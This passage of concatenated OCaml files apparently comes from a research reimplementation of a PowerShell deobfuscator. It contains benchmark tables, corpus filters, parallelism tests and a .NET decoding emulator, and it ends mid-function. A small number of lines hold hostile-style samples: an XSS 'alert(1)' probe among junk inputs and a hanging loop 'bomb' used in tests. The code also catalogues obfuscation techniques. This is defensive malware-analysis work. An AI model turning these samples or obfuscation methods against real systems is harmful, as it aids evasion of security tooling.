