lib/deobf/blocklist.ml: List Pscommon Pslex Strcase
