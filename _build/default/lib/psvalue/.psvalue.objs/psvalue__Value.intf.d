lib/psvalue/value.mli: Format Psast
