(** Table V — mitigation of obfuscation on the most obfuscated samples.

    The paper selects the 3,346 highest-scoring wild samples; each tool's
    output is re-scored, giving per-level mitigation (how many
    technique-detections at each level disappeared) and the average
    obfuscation-score reduction.  "Valid" results are outputs that differ
    from the input. *)

type per_level = { before : int; after : int }

type row = {
  tool : string;
  valid : int;
  l1 : per_level;
  l2 : per_level;
  l3 : per_level;
  avg_score_reduced : float;  (** mean of (before-after)/before *)
}

type result = { sample_count : int; rows : row list }

let level_counts d =
  let count flags = List.length (List.filter Fun.id flags) in
  let open Deobf.Score in
  ( count [ d.ticking; d.whitespacing; d.random_case; d.random_name; d.alias ],
    count [ d.concat; d.reorder; d.replace; d.reverse ],
    count
      [ d.enc_radix; d.enc_base64; d.enc_whitespace; d.enc_specialchar;
        d.enc_bxor; d.secure_string; d.compress ] )

let run ?(seed = 777) ?(count = 120) ?(top = 60) ?(tools = Baselines.All_tools.all) () =
  let samples = Corpus.Generator.generate_hard ~seed ~count in
  (* highest obfuscation score subset *)
  let scored =
    List.map (fun s -> (Deobf.Score.score s.Corpus.Generator.obfuscated, s)) samples
    |> List.sort (fun (a, _) (b, _) -> Int.compare b a)
  in
  let rec take n = function
    | [] -> []
    | x :: rest -> if n = 0 then [] else x :: take (n - 1) rest
  in
  let selected = List.map snd (take top scored) in
  let rows =
    List.map
      (fun tool ->
        let l1b = ref 0 and l1a = ref 0 in
        let l2b = ref 0 and l2a = ref 0 in
        let l3b = ref 0 and l3a = ref 0 in
        let valid = ref 0 in
        let reductions = ref [] in
        List.iter
          (fun s ->
            let input = s.Corpus.Generator.obfuscated in
            let output = (tool.Baselines.Tool.deobfuscate input).Baselines.Tool.result in
            let changed = not (String.equal (String.trim input) (String.trim output)) in
            if changed then incr valid;
            let db = Deobf.Score.detect input in
            (* a syntactically broken output is a failed deobfuscation, not a
               mitigation — score the input in that case *)
            let usable = changed && Psparse.Parser.is_valid_syntax output in
            let da = Deobf.Score.detect (if usable then output else input) in
            let b1, b2, b3 = level_counts db and a1, a2, a3 = level_counts da in
            l1b := !l1b + b1;
            l2b := !l2b + b2;
            l3b := !l3b + b3;
            l1a := !l1a + a1;
            l2a := !l2a + a2;
            l3a := !l3a + a3;
            let sb = Deobf.Score.score_of_detection db in
            let sa = Deobf.Score.score_of_detection da in
            if sb > 0 then
              reductions :=
                (float_of_int (sb - sa) /. float_of_int sb) :: !reductions)
          selected;
        let avg =
          match !reductions with
          | [] -> 0.0
          | rs -> List.fold_left ( +. ) 0.0 rs /. float_of_int (List.length rs)
        in
        {
          tool = tool.Baselines.Tool.name;
          valid = !valid;
          l1 = { before = !l1b; after = !l1a };
          l2 = { before = !l2b; after = !l2a };
          l3 = { before = !l3b; after = !l3a };
          avg_score_reduced = 100.0 *. avg;
        })
      tools
  in
  { sample_count = List.length selected; rows }

let mitigation p =
  if p.before = 0 then 0.0
  else 100.0 *. float_of_int (p.before - p.after) /. float_of_int p.before

let paper_numbers =
  [ ("PSDecode", "L1 24.5 L2 41.6 L3 6.7, avg 14");
    ("PowerDrive", "L1 21.1 L2 36 L3 8.5, avg 11");
    ("PowerDecode", "L1 17.9 L2 37 L3 22.3, avg 10.7");
    ("Li et al.", "L1 5.2 L2 12.4 L3 37, avg 24");
    ("Invoke-Deobfuscation", "L1 91.5 L2 64.7 L3 27, avg 46") ]

let print result =
  Printf.printf "Table V: mitigation on the most obfuscated samples (n=%d)\n"
    result.sample_count;
  Printf.printf "  %-22s %7s %8s %8s %8s %12s\n" "Tool" "#Valid" "L1" "L2" "L3"
    "AvgReduced";
  List.iter
    (fun r ->
      Printf.printf "  %-22s %7d %7.1f%% %7.1f%% %7.1f%% %11.1f%%\n" r.tool
        r.valid (mitigation r.l1) (mitigation r.l2) (mitigation r.l3)
        r.avg_score_reduced;
      match List.assoc_opt r.tool paper_numbers with
      | Some p -> Printf.printf "  %-22s (paper: %s)\n" "" p
      | None -> ())
    result.rows
