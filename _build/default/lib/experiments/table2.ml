(** Table II — deobfuscation ability of each tool per technique.

    The base command [write-host hello] is obfuscated with exactly one
    technique and placed in the paper's three syntactic positions: a
    separate line, the right-hand side of an assignment, and an element of
    a pipe.  A tool fully handles a technique when it recovers the original
    piece in {e all} positions (across several random seeds); partially when
    it recovers some. *)

open Pscommon

type status = Full | Partial | None_

let status_symbol = function Full -> "Y" | Partial -> "o" | None_ -> "x"

let base_command = "write-host hello"

type position = Separate | Assignment | Pipe

let positions = [ Separate; Assignment; Pipe ]

(* multi-statement pieces (variable indirection, specialchar, whitespace
   encoding) keep their preamble; only the final statement is placed *)
let split_preamble piece =
  let last_sep =
    match (String.rindex_opt piece ';', String.rindex_opt piece '\n') with
    | Some a, Some b -> Some (max a b)
    | Some a, None -> Some a
    | None, Some b -> Some b
    | None, None -> None
  in
  match last_sep with
  | Some i ->
      (String.sub piece 0 (i + 1), String.sub piece (i + 1) (String.length piece - i - 1))
  | None -> ("", piece)

let place position piece =
  let preamble, last = split_preamble piece in
  match position with
  | Separate -> piece
  | Assignment -> Printf.sprintf "%s$fmp = %s" preamble last
  | Pipe -> Printf.sprintf "%s%s|out-null" preamble last

(* Normalise whitespace runs for the contains check. *)
let normalize s =
  let buf = Buffer.create (String.length s) in
  let last_space = ref false in
  String.iter
    (fun c ->
      let is_ws = c = ' ' || c = '\t' || c = '\n' || c = '\r' in
      if is_ws then begin
        if not !last_space then Buffer.add_char buf ' ';
        last_space := true
      end
      else begin
        Buffer.add_char buf c;
        last_space := false
      end)
    s;
  Buffer.contents buf

let contains_cs ~needle haystack =
  let rec scan from =
    match Strcase.index_opt ~from ~needle haystack with
    | Some i ->
        if String.sub haystack i (String.length needle) = needle then true
        else scan (i + 1)
    | None -> false
  in
  scan 0

(* The piece counts as recovered when the tool changed the script and the
   canonical command — or its single-quoted string form for the string-level
   L2 techniques — appears literally (case-sensitive: recovering random case
   means restoring a canonical spelling). *)
let recovered ~technique ~input output =
  let changed = not (String.equal (String.trim input) (String.trim output)) in
  changed
  &&
  match technique with
  | Obfuscator.Technique.Random_name ->
      (* recovery for randomised names is normalisation to var{n} *)
      let d = Deobf.Score.detect output in
      (not d.Deobf.Score.random_name) && Psparse.Parser.is_valid_syntax output
  | _ ->
      let n = normalize output in
      List.exists
        (fun needle -> contains_cs ~needle n)
        [ "write-host hello"; "Write-Host hello"; "'write-host hello'" ]

let base_for technique =
  match technique with
  | Obfuscator.Technique.Random_name ->
      "$greetingmessage = 'hello'; write-host $greetingmessage"
  | _ -> base_command

let test_position tool technique ~seed position =
  let rng = Rng.of_int (seed + Hashtbl.hash (Obfuscator.Technique.name technique)) in
  let piece = Obfuscator.Obfuscate.piece rng technique (base_for technique) in
  let script = place position piece in
  Psparse.Parser.is_valid_syntax script
  &&
  let out = tool.Baselines.Tool.deobfuscate script in
  recovered ~technique ~input:script out.Baselines.Tool.result

let test_one tool technique ~seed =
  List.for_all (test_position tool technique ~seed) positions

let test_cell tool technique =
  let seeds = [ 3; 17; 59 ] in
  let results = List.map (fun seed -> test_one tool technique ~seed) seeds in
  if List.for_all Fun.id results then Full
  else
    let any_position =
      List.exists
        (fun seed ->
          List.exists (test_position tool technique ~seed) positions)
        seeds
    in
    if any_position then Partial else None_

type result = {
  tools : string list;
  rows : (Obfuscator.Technique.t * status list) list;
}

let run ?(tools = Baselines.All_tools.all) () =
  let rows =
    List.map
      (fun technique ->
        (technique, List.map (fun tool -> test_cell tool technique) tools))
      Obfuscator.Technique.all
  in
  { tools = List.map (fun t -> t.Baselines.Tool.name) tools; rows }

let paper_expectation technique tool_name =
  (* the paper's Table II, for side-by-side printing *)
  let t = Obfuscator.Technique.name technique in
  match tool_name with
  | "Invoke-Deobfuscation" -> if t = "encode-whitespace" then "x" else "Y"
  | "PowerDrive" -> (
      match t with "ticking" | "concatenate" -> "Y" | _ -> "x")
  | "PSDecode" -> ( match t with "ticking" -> "Y" | _ -> "x")
  | "PowerDecode" -> (
      match t with "concatenate" | "replace" -> "Y" | _ -> "x")
  | "Li et al." -> (
      match t with
      | "concatenate" | "reorder" | "encode-base64" -> "o"
      | "ticking" -> "Y"
      | _ -> "x")
  | _ -> "?"

let print result =
  Printf.printf
    "Table II: deobfuscation ability (Y = all positions, o = partial, x = none)\n";
  Printf.printf "  %-20s" "Technique";
  List.iter (fun t -> Printf.printf " %-14s" t) result.tools;
  Printf.printf "\n";
  List.iter
    (fun (technique, statuses) ->
      Printf.printf "  L%d %-17s"
        (Obfuscator.Technique.level technique)
        (Obfuscator.Technique.name technique);
      List.iter2
        (fun tool_name status ->
          Printf.printf " %-6s(p:%-2s)  " (status_symbol status)
            (paper_expectation technique tool_name))
        result.tools statuses;
      Printf.printf "\n")
    result.rows
