test/test_paper_listings.ml: Alcotest Array Char Deobf List Printf Pscommon Pseval Psvalue Sandbox Strcase String
