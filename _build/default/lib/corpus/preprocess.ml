(** Corpus preprocessing (paper §IV-B1).

    The raw feeds mix PowerShell with e-mail, HTML and binary junk, plus
    hash-distinct but structurally identical family variants.  The pipeline:
    syntax validation → token-level filters (no tokens at all; only unknown
    commands; command tokens with [=] / [%] characters; single-string-token
    samples) → structural dedup (all string tokens replaced by a placeholder
    before hashing, so samples differing only in URLs collapse). *)

open Pscommon
module T = Pslex.Token

type rejection =
  | Invalid_syntax
  | No_tokens
  | Unknown_commands
  | Single_string
  | Structural_duplicate

let rejection_name = function
  | Invalid_syntax -> "invalid-syntax"
  | No_tokens -> "no-tokens"
  | Unknown_commands -> "unknown-commands"
  | Single_string -> "single-string"
  | Structural_duplicate -> "structural-duplicate"

let known_command name =
  Pslex.Aliases.is_alias name
  || Pslex.Aliases.canonical_case name <> None
  || Strcase.contains ~needle:"-" name  (* verb-noun shape *)
  || List.exists
       (fun n -> Strcase.equal n name)
       [ "powershell"; "powershell.exe"; "pwsh"; "cmd"; "cmd.exe"; "iex" ]

let command_token_suspicious t =
  String.contains t.T.content '=' || String.contains t.T.content '%'

(* structure key: every string literal replaced by one placeholder *)
let structure_key src =
  match Pslex.Lexer.tokenize src with
  | Error _ -> src
  | Ok toks ->
      let buf = Buffer.create (String.length src) in
      List.iter
        (fun t ->
          if T.is_string t then Buffer.add_string buf "'S'"
          else begin
            Buffer.add_string buf (Strcase.lower t.T.text);
            Buffer.add_char buf ' '
          end)
        toks;
      Buffer.contents buf

let check_sample src =
  if not (Psparse.Parser.is_valid_syntax src) then Error Invalid_syntax
  else
    match Pslex.Lexer.tokenize src with
    | Error _ -> Error Invalid_syntax
    | Ok toks -> (
        let meaningful =
          List.filter
            (fun t ->
              match t.T.kind with
              | T.New_line | T.Comment | T.Line_continuation -> false
              | _ -> true)
            toks
        in
        if meaningful = [] then Error No_tokens
        else
          let commands =
            List.filter (fun t -> t.T.kind = T.Command) meaningful
          in
          if List.exists command_token_suspicious commands then
            Error Unknown_commands
          else if
            commands <> []
            && List.for_all (fun t -> not (known_command t.T.content)) commands
          then Error Unknown_commands
          else
            match meaningful with
            | [ single ] when T.is_string single -> Error Single_string
            | _ -> Ok ())

type outcome = {
  kept : string list;
  rejected : (string * rejection) list;
}

(** Run the full pipeline over raw samples, preserving order of kept
    samples. *)
let run samples =
  let seen = Hashtbl.create 64 in
  let kept = ref [] and rejected = ref [] in
  List.iter
    (fun src ->
      match check_sample src with
      | Error why -> rejected := (src, why) :: !rejected
      | Ok () ->
          let key = Digest.string (structure_key src) in
          if Hashtbl.mem seen key then
            rejected := (src, Structural_duplicate) :: !rejected
          else begin
            Hashtbl.replace seen key ();
            kept := src :: !kept
          end)
    samples;
  { kept = List.rev !kept; rejected = List.rev !rejected }

(** Junk that the raw feeds contain; used to exercise the filters. *)
let junk_samples rng =
  let open Pscommon in
  [
    "<html><body><script>alert(1)</script></body></html>";
    "Subject: invoice overdue\nFrom: a@b.com\n\nDear user, see attachment.";
    Printf.sprintf "'%s'" (Rng.ident rng ~min_len:20 ~max_len:40);
    "MZ\x90\x00\x03\x00\x00\x00\x04";
    "SGVsbG8gV29ybGQ=";
  ]
