(* Domain-pool parallelism: deterministic ordering, cross-domain deadline
   isolation, piece-cache correctness, and batch output identity. *)

module Guard = Pscommon.Guard
module Pool = Pscommon.Pool

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

(* ---------- Pool.map ---------- *)

let test_pool_map_matches_sequential () =
  let items = List.init 100 (fun i -> i) in
  let f x = (x * 31) mod 97 in
  check_b "jobs=4 equals sequential map" true
    (List.map f items = Pool.map ~jobs:4 f items);
  check_b "jobs larger than item count" true
    (List.map f [ 1; 2; 3 ] = Pool.map ~jobs:16 f [ 1; 2; 3 ]);
  check_b "empty input" true (Pool.map ~jobs:4 f [] = []);
  check_b "default is sequential" true (List.map f items = Pool.map f items)

exception Boom of int

let test_pool_map_propagates_exception () =
  let raised =
    try
      ignore
        (Pool.map ~jobs:4
           (fun i -> if i mod 7 = 3 then raise (Boom i) else i)
           (List.init 50 (fun i -> i)));
      None
    with Boom i -> Some i
  in
  (* the lowest-index failure wins, deterministically *)
  check_b "exception escapes the pool" true (raised = Some 3)

(* ---------- deadline isolation across domains ---------- *)

let test_deadlines_stay_domain_local () =
  (* four workers install very different deadlines at the same time; each
     must observe only its own, and leave its domain's stack clean *)
  let budgets = [ 0.05; 1000.0; 0.05; 1000.0; 1000.0; 0.05; 1000.0; 0.05 ] in
  let observations =
    Pool.map ~jobs:4
      (fun budget ->
        let before = Guard.ambient_deadline () in
        let inside = ref Guard.no_deadline in
        let r =
          Guard.protect ~deadline:(Guard.deadline_after budget) (fun () ->
              inside := Guard.ambient_deadline ();
              Guard.remaining_s (Guard.ambient_deadline ()))
        in
        let after = Guard.ambient_deadline () in
        (before, !inside, r, after))
      budgets
  in
  List.iter2
    (fun budget (before, inside, r, after) ->
      check_b "no ambient deadline before the guard" true
        (before = Guard.no_deadline);
      check_b "guard restores the ambient stack" true
        (after = Guard.no_deadline);
      match r with
      | Ok remaining ->
          (* a worker that saw a sibling's 0.05 s deadline instead of its
             own 1000 s one would report a tiny remaining budget *)
          check_b "worker saw its own deadline" true (remaining <= budget);
          check_b "worker saw a real deadline" true
            (inside <> Guard.no_deadline)
      | Error _ -> Alcotest.fail "guarded observation failed")
    budgets observations

let test_parallel_guarded_runs_mixed_deadlines () =
  (* a hanging sample under a tight deadline next to clean samples under
     loose ones: only the bomb times out, in every domain interleaving *)
  let bomb = "$x = $(while (1 -lt 2) { 1 }; 'done')" in
  let clean = "Write-Host 'hello'" in
  let inputs =
    [ (clean, 30.0); (bomb, 0.3); (clean, 30.0); (bomb, 0.3);
      (clean, 30.0); (clean, 30.0) ]
  in
  let results =
    Pool.map ~jobs:4
      (fun (src, timeout_s) -> Deobf.Engine.run_guarded ~timeout_s src)
      inputs
  in
  List.iter2
    (fun (src, _) (g : Deobf.Engine.guarded) ->
      let timed_out =
        List.exists
          (fun (s : Deobf.Engine.failure_site) -> s.failure = Guard.Timeout)
          g.Deobf.Engine.failures
      in
      if src == bomb then
        check_b "bomb contained by its own deadline" true timed_out
      else begin
        check_b "clean sample untouched by sibling deadlines" false timed_out;
        check_b "clean sample recovered" true
          (String.length g.Deobf.Engine.result.Deobf.Engine.output > 0)
      end)
    inputs results

(* ---------- piece cache ---------- *)

let test_cache_hit_matches_miss () =
  let src = "Write-Host ('f'+'oo') ('f'+'oo')" in
  let with_cache = Deobf.Engine.run src in
  check_s "recovered with cache" "Write-Host ('foo') ('foo')\n"
    with_cache.Deobf.Engine.output;
  check_b "repeated piece hit the cache" true
    (with_cache.Deobf.Engine.stats.Deobf.Recover.cache_hits >= 1);
  let options =
    { Deobf.Engine.default_options with
      recovery =
        { Deobf.Engine.default_options.Deobf.Engine.recovery with
          use_piece_cache = false } }
  in
  let without = Deobf.Engine.run ~options src in
  check_i "ablation disables the cache" 0
    without.Deobf.Engine.stats.Deobf.Recover.cache_hits;
  check_s "cache does not change the output" with_cache.Deobf.Engine.output
    without.Deobf.Engine.output

(* ---------- batch determinism and output directories ---------- *)

let with_temp_dir f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "parallel-batch-%d" (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect ~finally:(fun () -> if Sys.file_exists dir then rm dir)
    (fun () -> f dir)

let write path content =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

let read path = In_channel.with_open_bin path In_channel.input_all

let test_batch_jobs4_byte_identical () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let samples = Corpus.Generator.generate ~seed:7 ~count:32 in
      let files =
        List.map
          (fun (s : Corpus.Generator.sample) ->
            let path =
              Filename.concat in_dir (Printf.sprintf "sample_%04d.ps1" s.id)
            in
            write path s.obfuscated;
            path)
          samples
      in
      let out1 = Filename.concat dir "out1" in
      let out4 = Filename.concat dir "out4" in
      let s1 = Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out1 ~jobs:1 files in
      let s4 = Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out4 ~jobs:4 files in
      check_i "all samples processed at jobs=1" 32 s1.Deobf.Batch.total;
      check_i "all samples processed at jobs=4" 32 s4.Deobf.Batch.total;
      (* outcomes come back input-ordered regardless of domain scheduling *)
      List.iter2
        (fun file (o : Deobf.Batch.outcome) ->
          check_s "outcome order matches input order" file o.Deobf.Batch.file)
        files s4.Deobf.Batch.outcomes;
      List.iter
        (fun file ->
          let base = Filename.basename file in
          check_s
            (Printf.sprintf "%s identical across jobs" base)
            (read (Filename.concat out1 base))
            (read (Filename.concat out4 base)))
        files)

let test_ensure_dir_nested () =
  with_temp_dir (fun dir ->
      let input = Filename.concat dir "one.ps1" in
      write input "Write-Host ('o'+'k')";
      let out_dir = Filename.concat (Filename.concat dir "a") "b/c" in
      let summary = Deobf.Batch.run_files ~out_dir [ input ] in
      check_i "nested out_dir accepted" 1 summary.Deobf.Batch.clean;
      match summary.Deobf.Batch.outcomes with
      | [ o ] ->
          check_b "output written into the nested directory" true
            (match o.Deobf.Batch.output_file with
            | Some p -> Sys.file_exists p
            | None -> false)
      | _ -> Alcotest.fail "expected one outcome")

let test_out_dir_regular_file_reports_write_failure () =
  with_temp_dir (fun dir ->
      let input = Filename.concat dir "one.ps1" in
      write input "Write-Host 'x'";
      let out_dir = Filename.concat dir "occupied" in
      write out_dir "not a directory";
      let summary = Deobf.Batch.run_files ~out_dir [ input ] in
      check_i "file still accounted for" 1 summary.Deobf.Batch.total;
      check_i "degraded, not crashed" 1 summary.Deobf.Batch.degraded;
      match summary.Deobf.Batch.outcomes with
      | [ o ] ->
          check_b "structured write failure recorded" true
            (List.exists
               (fun (s : Deobf.Engine.failure_site) -> s.phase = "write")
               o.Deobf.Batch.failures);
          check_b "no output path claimed" true
            (o.Deobf.Batch.output_file = None)
      | _ -> Alcotest.fail "expected one outcome")

let suite =
  [
    Alcotest.test_case "pool map matches sequential" `Quick
      test_pool_map_matches_sequential;
    Alcotest.test_case "pool map propagates exceptions" `Quick
      test_pool_map_propagates_exception;
    Alcotest.test_case "deadlines stay domain-local" `Quick
      test_deadlines_stay_domain_local;
    Alcotest.test_case "parallel guarded runs, mixed deadlines" `Slow
      test_parallel_guarded_runs_mixed_deadlines;
    Alcotest.test_case "cache hit matches miss" `Quick
      test_cache_hit_matches_miss;
    Alcotest.test_case "batch jobs=4 byte-identical to jobs=1" `Slow
      test_batch_jobs4_byte_identical;
    Alcotest.test_case "ensure_dir creates nested out_dir" `Quick
      test_ensure_dir_nested;
    Alcotest.test_case "out_dir as regular file reports write failure" `Quick
      test_out_dir_regular_file_reports_write_failure;
  ]
