(** Common interface for the compared deobfuscation tools. *)

type output = {
  result : string;  (** the tool's final deobfuscation layer *)
  simulated_seconds : float;
      (** extra run time the tool would spend executing unrelated commands
          (sleeps, network timeouts) — the cause of Fig 6's fluctuation *)
}

type t = {
  name : string;
  deobfuscate : string -> output;
}

(* simulated cost of side effects a tool triggers by executing samples:
   sleeps run for their duration; network touches wait on timeouts *)
let simulated_cost events =
  List.fold_left
    (fun acc ev ->
      match ev with
      | Pseval.Env.Sleep s -> acc +. s
      | Pseval.Env.Http_get _ | Pseval.Env.Http_download _
      | Pseval.Env.Dns_query _ | Pseval.Env.Tcp_connect _ ->
          acc +. 2.0
      | Pseval.Env.Process_start _ -> acc +. 0.5
      | Pseval.Env.File_write _ | Pseval.Env.File_read _
      | Pseval.Env.Registry_write _ ->
          acc)
    0.0 events

let plain result = { result; simulated_seconds = 0.0 }

(* Tools that execute samples crash or hang on unexpected input — the
   failure mode the paper's Table II comparison exercises.  Guarding each
   tool turns a crash into "returned the sample unchanged", which is how a
   tool that died mid-run scores, and bounds each sample's wall time. *)
let guard ?(timeout_s = 20.0) tool =
  { tool with
    deobfuscate =
      (fun script ->
        match
          Pscommon.Guard.protect
            ~deadline:(Pscommon.Guard.deadline_after timeout_s)
            (fun () -> tool.deobfuscate script)
        with
        | Ok out -> out
        | Error _ -> plain script) }
