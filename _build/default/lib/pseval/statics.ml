(** Static type members ([\[Type\]::Member] and [\[Type\]::Method(...)]).

    This is where every L3 decoding primitive lives: base64
    ([\[Convert\]::FromBase64String]), radix conversion
    ([\[Convert\]::ToInt32(s, base)]), text encodings, SecureString
    marshalling, and [\[array\]::Reverse]. *)

open Psvalue
module Strcase = Pscommon.Strcase

exception Static_error of string

let fail fmt = Printf.ksprintf (fun s -> raise (Static_error s)) fmt

let normalize = Casts.normalize_type

let encoding_of_member m =
  match Strcase.lower m with
  | "unicode" -> Some Value.Enc_unicode
  | "utf8" -> Some Value.Enc_utf8
  | "ascii" -> Some Value.Enc_ascii
  | "default" -> Some Value.Enc_default
  | "utf32" -> Some Value.Enc_utf32
  | "bigendianunicode" -> Some Value.Enc_unicode
  | _ -> None

let encoding_obj enc =
  Value.Obj { Value.otype = Value.encoding_type_name enc; okind = Value.Encoding_obj enc }

(* ---------- property-style statics ---------- *)

let get_static type_name member =
  let t = normalize type_name in
  let m = Strcase.lower member in
  match t with
  | "text.encoding" | "texts.encoding" -> (
      match encoding_of_member m with
      | Some enc -> Some (encoding_obj enc)
      | None -> None)
  | "io.compression.compressionmode" -> (
      match m with
      | "decompress" -> Some (Value.Str "Decompress")
      | "compress" -> Some (Value.Str "Compress")
      | _ -> None)
  | "math" -> (
      match m with
      | "pi" -> Some (Value.Float Float.pi)
      | "e" -> Some (Value.Float (Float.exp 1.0))
      | _ -> None)
  | "int32" | "int" -> (
      match m with
      | "maxvalue" -> Some (Value.Int 2147483647)
      | "minvalue" -> Some (Value.Int (-2147483648))
      | _ -> None)
  | "char" | "string" | "convert" | "array" -> None
  | "environment" -> (
      match m with
      | "machinename" -> Some (Value.Str "DESKTOP-USER")
      | "username" -> Some (Value.Str "user")
      | "osversion" -> Some (Value.Str "Microsoft Windows NT 10.0.19041.0")
      | "newline" -> Some (Value.Str "\r\n")
      | _ -> None)
  | _ -> None

(* ---------- method-style statics ---------- *)

let radix_digits v =
  match Value.to_int v with
  | 2 | 8 | 10 | 16 -> Value.to_int v
  | n -> fail "unsupported radix %d" n

let to_int_radix s radix =
  let s = String.trim s in
  let digit c =
    match c with
    | '0' .. '9' -> Char.code c - Char.code '0'
    | 'a' .. 'f' -> Char.code c - Char.code 'a' + 10
    | 'A' .. 'F' -> Char.code c - Char.code 'A' + 10
    | _ -> fail "invalid digit %C" c
  in
  if s = "" then fail "empty number string"
  else
    String.fold_left
      (fun acc c ->
        let d = digit c in
        if d >= radix then fail "digit %C out of range for base %d" c radix
        else (acc * radix) + d)
      0 s

let to_string_radix n radix =
  if n = 0 then "0"
  else if n < 0 then fail "negative value in Convert.ToString with radix"
  else
    let digit d = "0123456789abcdef".[d] in
    let rec go n acc =
      if n = 0 then acc
      else go (n / radix) (String.make 1 (digit (n mod radix)) ^ acc)
    in
    go n ""

let invoke_static env type_name member args =
  ignore env;
  let t = normalize type_name in
  let m = Strcase.lower member in
  match (t, m, args) with
  (* --- Convert --- *)
  | "convert", "frombase64string", [ s ] -> (
      match Encoding.Base64.decode (Value.to_string s) with
      | Ok data -> Some (Value.bytes_to_value data)
      | Error msg -> fail "%s" msg)
  | "convert", "tobase64string", [ v ] ->
      Some (Value.Str (Encoding.Base64.encode (Value.value_to_bytes v)))
  | "convert", ("toint32" | "toint16" | "toint64" | "tobyte"), [ v ] ->
      Some (Value.Int (Value.to_int v))
  | "convert", ("toint32" | "toint16" | "toint64" | "tobyte"), [ v; radix ] ->
      Some (Value.Int (to_int_radix (Value.to_string v) (radix_digits radix)))
  | "convert", "tochar", [ v ] -> Some (Value.Char (Value.to_char v))
  | "convert", "tostring", [ v ] -> Some (Value.Str (Value.to_string v))
  | "convert", "tostring", [ v; radix ] ->
      Some (Value.Str (to_string_radix (Value.to_int v) (radix_digits radix)))
  | "convert", "todouble", [ v ] -> Some (Value.Float (Value.to_float v))
  | "convert", "toboolean", [ v ] -> Some (Value.Bool (Value.to_bool v))
  (* --- char --- *)
  | "char", "convertfromutf32", [ v ] ->
      let n = Value.to_int v in
      if n >= 0 && n < 256 then Some (Value.Str (String.make 1 (Char.chr n)))
      else Some (Value.Str "?")
  | "char", "tolower", [ v ] ->
      Some (Value.Char (Char.lowercase_ascii (Value.to_char v)))
  | "char", "toupper", [ v ] ->
      Some (Value.Char (Char.uppercase_ascii (Value.to_char v)))
  | "char", "isdigit", [ v ] -> (
      match Value.to_char v with
      | '0' .. '9' -> Some (Value.Bool true)
      | _ -> Some (Value.Bool false))
  (* --- string --- *)
  | "string", "join", sep :: rest ->
      let sep = Value.to_string sep in
      let parts =
        match rest with
        | [ Value.Arr a ] -> Array.to_list a
        | vs -> vs
      in
      Some (Value.Str (String.concat sep (List.map Value.to_string parts)))
  | "string", "concat", vs ->
      let parts = List.concat_map Value.to_list vs in
      Some (Value.Str (String.concat "" (List.map Value.to_string parts)))
  | "string", "format", fmt :: rest ->
      Some (Value.Str (Format_op.format (Value.to_string fmt) rest))
  | "string", "isnullorempty", [ v ] ->
      Some (Value.Bool (match v with Value.Null -> true | x -> Value.to_string x = ""))
  | "string", "new", [ chars ] ->
      Some (Value.Str (Value.value_to_bytes (Casts.to_byte_array chars)))
  (* --- array --- *)
  | "array", "reverse", [ Value.Arr a ] ->
      (* in-place, like .NET *)
      let n = Array.length a in
      for i = 0 to (n / 2) - 1 do
        let tmp = a.(i) in
        a.(i) <- a.(n - 1 - i);
        a.(n - 1 - i) <- tmp
      done;
      Some Value.Null
  | "array", "reverse", [ v ] ->
      ignore v;
      Some Value.Null
  (* --- math --- *)
  | "math", "abs", [ v ] -> Some (Value.Int (abs (Value.to_int v)))
  | "math", "round", [ v ] -> Some (Value.Int (Value.to_int v))
  | "math", ("min" | "max"), [ a; b ] ->
      let fa = Value.to_float a and fb = Value.to_float b in
      let r = if m = "min" then Float.min fa fb else Float.max fa fb in
      Some (if Float.is_integer r then Value.Int (int_of_float r) else Value.Float r)
  | "math", "floor", [ v ] -> Some (Value.Float (Float.floor (Value.to_float v)))
  | "math", "ceiling", [ v ] -> Some (Value.Float (Float.ceil (Value.to_float v)))
  | "math", "sqrt", [ v ] -> Some (Value.Float (Float.sqrt (Value.to_float v)))
  | "math", "pow", [ a; b ] ->
      Some (Value.Float (Float.pow (Value.to_float a) (Value.to_float b)))
  (* --- text encoding accessors as methods --- *)
  | "text.encoding", "getencoding", [ v ] -> (
      let name = Strcase.lower (Value.to_string v) in
      match name with
      | "utf-16" | "unicode" | "1200" -> Some (encoding_obj Value.Enc_unicode)
      | "utf-8" | "65001" -> Some (encoding_obj Value.Enc_utf8)
      | "ascii" | "us-ascii" | "20127" -> Some (encoding_obj Value.Enc_ascii)
      | _ -> Some (encoding_obj Value.Enc_default))
  (* --- SecureString marshalling --- *)
  | ("runtime.interopservices.marshal" | "interopservices.marshal" | "marshal"),
    "securestringtobstr", [ Value.Secure_string s ] ->
      Some (Value.Obj { Value.otype = "System.IntPtr"; okind = Value.Bstr s })
  | ("runtime.interopservices.marshal" | "interopservices.marshal" | "marshal"),
    ("ptrtostringauto" | "ptrtostringbstr" | "ptrtostringuni"),
    [ Value.Obj { okind = Value.Bstr s; _ } ] ->
      Some (Value.Str s)
  | ("runtime.interopservices.marshal" | "interopservices.marshal" | "marshal"),
    "zerofreebstr", [ _ ] ->
      Some Value.Null
  (* --- scriptblock --- *)
  | ("scriptblock" | "management.automation.scriptblock"), "create", [ s ] ->
      Some (Casts.parse_scriptblock (Value.to_string s))
  (* --- URL / HTML decoding (generic-recovery surface) --- *)
  | ("uri" | "system.uri"), "unescapedatastring", [ v ]
  | ("net.webutility" | "web.httputility" | "webutility" | "httputility"),
    "urldecode", [ v ] ->
      let s = Value.to_string v in
      let buf = Buffer.create (String.length s) in
      let hex c =
        match c with
        | '0' .. '9' -> Char.code c - Char.code '0'
        | 'a' .. 'f' -> Char.code c - Char.code 'a' + 10
        | 'A' .. 'F' -> Char.code c - Char.code 'A' + 10
        | _ -> fail "invalid percent escape"
      in
      let rec go i =
        if i < String.length s then
          if s.[i] = '%' && i + 2 < String.length s then begin
            Buffer.add_char buf (Char.chr ((hex s.[i + 1] * 16) + hex s.[i + 2]));
            go (i + 3)
          end
          else if s.[i] = '+' && Strcase.contains ~needle:"urldecode" m then begin
            Buffer.add_char buf ' ';
            go (i + 1)
          end
          else begin
